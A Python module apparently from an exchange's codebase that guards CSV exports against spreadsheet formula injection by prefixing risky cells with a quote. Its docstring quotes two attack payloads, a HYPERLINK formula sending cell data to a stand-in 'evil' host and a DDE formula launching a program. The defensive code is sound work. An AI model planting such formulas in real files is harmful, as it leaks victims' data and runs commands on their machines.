"""Cells a spreadsheet opens as what they say: the exchange's guard against CSV injection.

Partners' finance teams open the exchange's CSV files (statements, books) in Excel or
LibreOffice, which take a cell beginning with ``=``, ``+``, ``-`` or ``@`` as a formula — and one
beginning with a tab or a carriage return before such a character too. A formula can fetch an
address with the sheet's other cells in it (``=HYPERLINK("http://evil/?"&A1,"click")``) or run
a program (``+cmd|' /C calc'!A0``). So every cell the exchange writes into such a file goes
through :func:`spreadsheet_cell` (OWASP, "CSV Injection"): a cell beginning with one of those
characters is written with a ``'`` before it, which spreadsheets read as "text follows" — except
a plain number in the exchange's decimal notation (:data:`~exchange.money.DECIMAL_NOTATION`:
``-120``, ``-3.50``), so that a negative amount stays a number.

A cell that already begins with ``'`` gets one more, so the rule reads back exactly: a cell
beginning with ``'`` had exactly one added; take it away and you have the text as the exchange
holds it (and as a statement's signed JSON carries it). No number ever begins with ``'``.

Files that programs read rather than people (the batch credits file a partner's points system
takes, the ledger archive's rows) carry their values verbatim and do not use this.
"""

from __future__ import annotations

from collections.abc import Iterable

from exchange.money import DECIMAL_NOTATION

#: What a neutralised cell begins with: spreadsheets take the rest of the cell as text.
TEXT_PREFIX = "'"
#: First characters that make a spreadsheet read a cell as a formula (OWASP: ``=``, ``+``,
#: ``-``, ``@``, tab, carriage return), and the prefix itself, so that it can be read back.
NEUTRALISED_FIRST = frozenset("=+-@\t\r" + TEXT_PREFIX)


def spreadsheet_cell(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet shows as text: with :data:`TEXT_PREFIX` before it
    when it begins with one of :data:`NEUTRALISED_FIRST` and is not a plain decimal number."""
    if text[:1] in NEUTRALISED_FIRST and not DECIMAL_NOTATION.fullmatch(text):
        return TEXT_PREFIX + text
    return text


def spreadsheet_row(cells: Iterable[str]) -> list[str]:
    """Every cell of a CSV row through :func:`spreadsheet_cell`: what a CSV writer writes."""
    return [spreadsheet_cell(cell) for cell in cells]
